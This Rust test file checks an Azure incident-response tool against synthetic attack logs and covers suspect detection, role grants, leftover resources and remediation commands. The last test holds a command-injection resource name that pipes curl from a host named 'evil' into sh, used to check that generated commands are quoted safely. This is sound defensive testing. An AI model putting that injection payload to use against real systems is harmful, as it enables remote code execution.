//! Suspects, what they left, and the steps that follow: small incidents whose truth is known.

use serde_json::{Value, json};

use super::{EVE, SUB, asked, at, done, event, of_subscription, report, resource};

const OPS: &str = "ops@contoso.com";
const ANN: &str = "ann@contoso.com";
const HOME: &str = "192.0.2.10";
const AWAY: &str = "198.51.100.66";
const APP: &str = "11111111-0000-0000-0000-0000000000aa";
const OWNER: &str = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const READER: &str = "acdd72a7-3385-48ef-bd42-f606fba81ae7";
const ELEVATE: &str = "Microsoft.Authorization/elevateAccess/action";
const ASSIGN: &str = "Microsoft.Authorization/roleAssignments";
const LIST_KEYS: &str = "Microsoft.Storage/storageAccounts/listKeys/action";

/// Weeks of ordinary work of somebody at an address: twelve operations on as many days.
fn work(who: &str, ip: &str) -> Vec<Value> {
    let one = |day: u32| {
        let write = "Microsoft.Compute/disks/write";
        at(
            &format!("2026-02-{day:02}"),
            ip,
            [done("09:00:00", who, write, &resource("Microsoft.Compute/disks", "d1"))],
        )
    };
    (1..=12).flat_map(one).collect()
}

/// Makes somebody a suspect from a foreign address on the first of March at ten.
fn attack(who: &str) -> Vec<Value> {
    at("2026-03-01", AWAY, [done("10:00:00", who, ELEVATE, "/providers/Microsoft.Authorization")])
}

/// A grant of a role by Eve.
fn grant(time: &str, number: u32, role: &str, to: &str) -> Vec<Value> {
    let id = assignment(number);
    let role = format!("{SUB}/providers/Microsoft.Authorization/roleDefinitions/{role}");
    let body = json!({"properties": {"principalId": to, "roleDefinitionId": role}});
    at("2026-03-01", AWAY, asked(time, &format!("{ASSIGN}/write"), &id, &body))
}

fn assignment(number: u32) -> String {
    format!(
        "{SUB}/providers/Microsoft.Authorization/roleAssignments/0000000a-0000-0000-0000-{number:012}"
    )
}

/// The same call by an application, which has no name but its object id.
fn by_app(mut event: Value, oid: &str) -> Value {
    event["caller"] = oid.into();
    event["claims"] = json!({
        "http://schemas.microsoft.com/identity/claims/objectidentifier": oid,
        "appid": oid,
        "idtyp": "app",
    });
    event
}

fn user<'r>(report: &'r Value, id: &str) -> Option<&'r Value> {
    report["users"].as_array().expect("users").iter().find(|user| user["id"] == id)
}

fn is_suspect(report: &Value, id: &str) -> bool {
    user(report, id).is_some_and(|user| !user["suspicion"].is_null())
}

fn texts<'r>(entry: &'r Value, list: &str, key: &str) -> Vec<&'r str> {
    let items = entry[list].as_array().expect("a list").iter();
    items.map(|item| item[key].as_str().unwrap_or_default()).collect()
}

/// The targets of the steps of an entity that begin so.
fn targets<'r>(entry: &'r Value, begin: &str) -> Vec<&'r str> {
    let steps = entry["mitigation"].as_array().expect("steps").iter();
    let fit = steps.filter(|step| step["step"].as_str().expect("a step").starts_with(begin));
    fit.map(|step| step["target"].as_str().expect("a target")).collect()
}

/// Every step of a report, whatever it is of.
fn all_steps(report: &Value) -> Vec<&Value> {
    ["users", "subscriptions", "virtual_machines", "alerts"]
        .iter()
        .flat_map(|list| report[*list].as_array().expect("a list"))
        .flat_map(|entry| entry["mitigation"].as_array().expect("steps"))
        .collect()
}

#[test]
fn an_owner_who_works_at_home_while_the_account_is_used_elsewhere_keeps_what_it_makes() {
    let account = |name: &str| resource("Microsoft.Storage/storageAccounts", name);
    let write = "Microsoft.Storage/storageAccounts/write";
    let events = [
        work(EVE, HOME),
        attack(EVE),
        at("2026-03-01", AWAY, [done("10:05:00", EVE, write, &account("loot"))]),
        at("2026-03-01", HOME, [done("10:06:00", EVE, write, &account("own"))]),
    ]
    .concat();
    let report = report(&events);
    let residue = texts(&report["subscriptions"][0], "residue", "resource_id");
    assert_eq!(residue, [account("loot").to_lowercase()]);
    assert_eq!(user(&report, EVE).unwrap()["familiarity"], "familiar");
    assert_eq!(user(&report, EVE).unwrap()["suspicion"]["operations"], 2);
}

#[test]
fn one_grave_act_from_an_address_that_somebody_long_used_makes_no_suspect() {
    let grave = |ip: &str| {
        let events = [
            work(OPS, HOME),
            at(
                "2026-03-01",
                ip,
                [done("10:00:00", OPS, ELEVATE, "/providers/Microsoft.Authorization")],
            ),
        ];
        report(&events.concat())
    };
    assert!(!is_suspect(&grave(HOME), OPS));
    assert!(all_steps(&grave(HOME)).is_empty());
    assert!(is_suspect(&grave(AWAY), OPS));
}

#[test]
fn suspicion_spreads_to_whom_a_suspect_made_owner_and_not_to_who_may_merely_read() {
    let acts = |oid: &str| {
        by_app(
            done(
                "11:00:00",
                oid,
                "Microsoft.Compute/disks/write",
                &resource("Microsoft.Compute/disks", "x"),
            ),
            oid,
        )
    };
    let reader = "11111111-0000-0000-0000-0000000000bb";
    let before = |oid: &str| {
        let events = (1..=12).map(|day| at(&format!("2026-02-{day:02}"), HOME, [acts(oid)]));
        events.flatten().collect::<Vec<_>>()
    };
    let events = [
        work(ANN, HOME),
        before(reader),
        attack(EVE),
        grant("10:10:00", 1, OWNER, APP),
        grant("10:11:00", 2, READER, reader),
        at("2026-03-01", AWAY, [acts(APP)]),
        at("2026-03-01", HOME, [acts(reader)]),
    ]
    .concat();
    let report = report(&events);
    assert!(is_suspect(&report, APP) && !is_suspect(&report, reader) && !is_suspect(&report, ANN));
    let app = user(&report, APP).unwrap();
    assert_eq!(app["familiarity"], "unfamiliar");
    let why = app["suspicion"]["because"].to_string();
    assert!(why.contains(EVE) && why.contains("Owner"), "{why}");
    assert_eq!(targets(app, "Delete the service principal"), [APP]);
    assert!(targets(app, "Replace its credentials").is_empty());
    for id in [reader, ANN] {
        assert_eq!(user(&report, id).unwrap()["mitigation"], json!([]), "{id}");
    }
    let entry = &report["subscriptions"][0];
    assert_eq!(targets(entry, "Take the role Owner"), [assignment(1).to_lowercase()]);
    assert_eq!(
        targets(entry, "Take the role Reader"),
        [assignment(2).to_lowercase()],
        "a suspect gave it"
    );
    let gave = texts(user(&report, EVE).unwrap(), "gave", "to");
    assert_eq!(gave, [APP, reader]);
}

#[test]
fn a_grant_that_was_taken_back_asks_for_nothing_and_makes_nobody_a_suspect() {
    let back = at(
        "2026-03-01",
        AWAY,
        [done("10:30:00", EVE, &format!("{ASSIGN}/delete"), &assignment(1))],
    );
    let ann = "11111111-0000-0000-0000-0000000000cc";
    let acts = by_app(
        done(
            "09:00:00",
            ann,
            "Microsoft.Compute/disks/write",
            &resource("Microsoft.Compute/disks", "x"),
        ),
        ann,
    );
    let events =
        [at("2026-02-01", HOME, [acts]), attack(EVE), grant("10:10:00", 1, OWNER, ann), back]
            .concat();
    let report = report(&events);
    assert!(!is_suspect(&report, ann));
    assert!(targets(&report["subscriptions"][0], "Take the role").is_empty());
}

#[test]
fn what_failed_was_deleted_or_replaced_asks_for_nothing() {
    let account = |name: &str| resource("Microsoft.Storage/storageAccounts", name);
    let write = "Microsoft.Storage/storageAccounts/write";
    let delete = "Microsoft.Storage/storageAccounts/delete";
    let renew = "Microsoft.Storage/storageAccounts/regenerateKey/action";
    let events = [
        attack(EVE),
        at(
            "2026-03-01",
            AWAY,
            [
                event("10:05:00", EVE, write, &account("failed"), "Failed"),
                done("10:06:00", EVE, write, &account("gone")),
                done("10:07:00", EVE, write, &account("left")),
                done("10:08:00", EVE, LIST_KEYS, &account("renewed")),
                done("10:09:00", EVE, LIST_KEYS, &account("known")),
                event("10:09:30", EVE, LIST_KEYS, &account("refused"), "Failed"),
            ],
        ),
        at(
            "2026-03-01",
            HOME,
            [
                done("12:00:00", OPS, delete, &account("gone")),
                done("12:01:00", OPS, renew, &account("renewed")),
                done("13:01:00", OPS, renew, &account("renewed")),
            ],
        ),
    ]
    .concat();
    let report = report(&events);
    let entry = &report["subscriptions"][0];
    assert_eq!(targets(entry, "Delete the storage account"), [account("left").to_lowercase()]);
    assert_eq!(targets(entry, "Replace"), [account("known").to_lowercase()]);
    assert!(!is_suspect(&report, OPS));
    let residue: Vec<(&str, bool)> = entry["residue"]
        .as_array()
        .unwrap()
        .iter()
        .map(|left| (left["resource_id"].as_str().unwrap(), left["still_present"] == true))
        .collect();
    assert_eq!(
        residue,
        [(&*account("left").to_lowercase(), true), (&*account("gone").to_lowercase(), false)]
    );
}

#[test]
fn defences_that_somebody_raised_again_are_told_and_not_asked_for() {
    let lock = |name: &str| {
        format!(
            "{}/providers/Microsoft.Authorization/locks/{name}",
            resource("Microsoft.KeyVault/vaults", "v1")
        )
    };
    let lower = |time: &str, name: &str| {
        done(time, EVE, "Microsoft.Authorization/locks/delete", &lock(name))
    };
    let raise = done("12:00:00", OPS, "Microsoft.Authorization/locks/write", &lock("back"));
    let events = [
        attack(EVE),
        at("2026-03-01", AWAY, [lower("10:05:00", "back"), lower("10:06:00", "off")]),
        at("2026-03-01", HOME, [raise]),
    ]
    .concat();
    let report = report(&events);
    let defences = of_subscription(&report, "defences");
    let raised: Vec<bool> = defences.iter().map(|defence| !defence["raised"].is_null()).collect();
    assert_eq!(raised, [true, false]);
    assert_eq!(defences[0]["raised_by"], OPS);
    let entry = &report["subscriptions"][0];
    assert_eq!(targets(entry, "Raise the defence"), [lock("off").to_lowercase()]);
}

#[test]
fn a_defence_that_an_application_lowers_again_by_the_same_request_is_down_again() {
    let plan = format!("{SUB}/providers/Microsoft.Security/pricings/VirtualMachines");
    let write = "Microsoft.Security/pricings/write";
    let free = json!({"properties": {"pricingTier": "Free"}});
    let lower = |time: &str| asked(time, write, &plan, &free).map(|event| by_app(event, APP));
    let lowered = [lower("10:05:00"), lower("13:00:00")].concat();
    let events = [
        attack(EVE),
        at("2026-03-01", AWAY, lowered),
        at("2026-03-01", HOME, [done("12:00:00", OPS, write, &plan)]),
    ]
    .concat();
    let report = report(&events);
    let told = report["findings"].as_array().unwrap().iter();
    let told = told.filter(|finding| finding["title"] == "Defender plan switched off or cut down");
    assert_eq!(told.count(), 1, "the rule tells an application's request once");
    let folded = report["folded"].as_array().unwrap().iter();
    let again = folded.filter(|fold| fold["why"] == "the like was told before");
    let again: Vec<&Value> = again.map(|fold| &fold["operations"]).collect();
    assert_eq!(again, [1], "what is not told again is counted");
    let defences = of_subscription(&report, "defences");
    let raised: Vec<&Value> = defences.iter().map(|defence| &defence["raised_by"]).collect();
    assert_eq!(raised, [&json!(OPS), &Value::Null]);
}

#[test]
fn a_machine_that_a_suspect_ran_code_on_is_set_up_anew_and_one_that_ops_rebooted_is_left_alone() {
    let machine = |name: &str| resource("Microsoft.Compute/virtualMachines", name);
    let run = "Microsoft.Compute/virtualMachines/runCommand/action";
    let reimage = "Microsoft.Compute/virtualMachines/reimage/action";
    let events = [
        work(OPS, HOME),
        attack(EVE),
        at(
            "2026-03-01",
            AWAY,
            [
                done("10:05:00", EVE, run, &machine("taken")),
                event("10:06:00", EVE, run, &machine("refused"), "Failed"),
                done("10:06:30", EVE, run, &machine("renewed")),
            ],
        ),
        at(
            "2026-03-01",
            HOME,
            [
                done("10:04:00", OPS, reimage, &machine("taken")),
                done("10:07:00", OPS, run, &machine("ours")),
                done("10:30:00", OPS, reimage, &machine("renewed")),
            ],
        ),
    ]
    .concat();
    let report = report(&events);
    let of = |name: &str| {
        let id = machine(name).to_lowercase();
        report["virtual_machines"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["resource_id"] == *id)
            .unwrap()
    };
    let taken = of("taken");
    assert_eq!(taken["verdict"], "compromised");
    for step in ["Keep copies", "Reset the passwords", "Scan it", "Reimage it"] {
        assert_eq!(targets(taken, step), [machine("taken").to_lowercase()], "{step}");
    }
    assert_eq!(targets(of("renewed"), "Scan it").len(), 1);
    assert_eq!(targets(of("renewed"), "Reimage it"), [""; 0], "it was done since");
    for name in ["refused", "ours"] {
        assert_eq!(
            (&of(name)["verdict"], &of(name)["mitigation"]),
            (&"clear".into(), &json!([])),
            "{name}"
        );
    }
}

#[test]
fn hostile_names_stay_words_in_commands() {
    let name = "x'; curl evil | sh; '$(reboot)`id`";
    let events = [
        attack(EVE),
        at(
            "2026-03-01",
            AWAY,
            [done(
                "10:05:00",
                EVE,
                "Microsoft.Storage/storageAccounts/write",
                &resource("Microsoft.Storage/storageAccounts", name),
            )],
        ),
        at(
            "2026-03-01",
            AWAY,
            [done(
                "10:06:00",
                EVE,
                LIST_KEYS,
                &resource("Microsoft.Storage/storageAccounts", name),
            )],
        ),
    ]
    .concat();
    let report = report(&events);
    // Some write what they save into a file.
    let folder = tempfile::tempdir().expect("a folder");
    let commands: Vec<&str> =
        all_steps(&report).iter().filter_map(|step| step["command"].as_str()).collect();
    assert!(commands.iter().any(|line| line.contains("keys renew")), "{commands:?}");
    for line in commands {
        // A shell that only splits and quotes: nothing may be left to run.
        let check = format!(
            "az() {{ :; }}; uuidgen() {{ :; }}; azscope() {{ :; }}; curl() {{ exit 7; }}; reboot() {{ exit 8; }}; id() {{ exit 9; }}; {line}"
        );
        let mut out = std::process::Command::new("sh");
        let out = out.args(["-c", &check]).current_dir(&folder).output().expect("sh");
        assert_eq!(out.status.code(), Some(0), "{line}");
    }
}
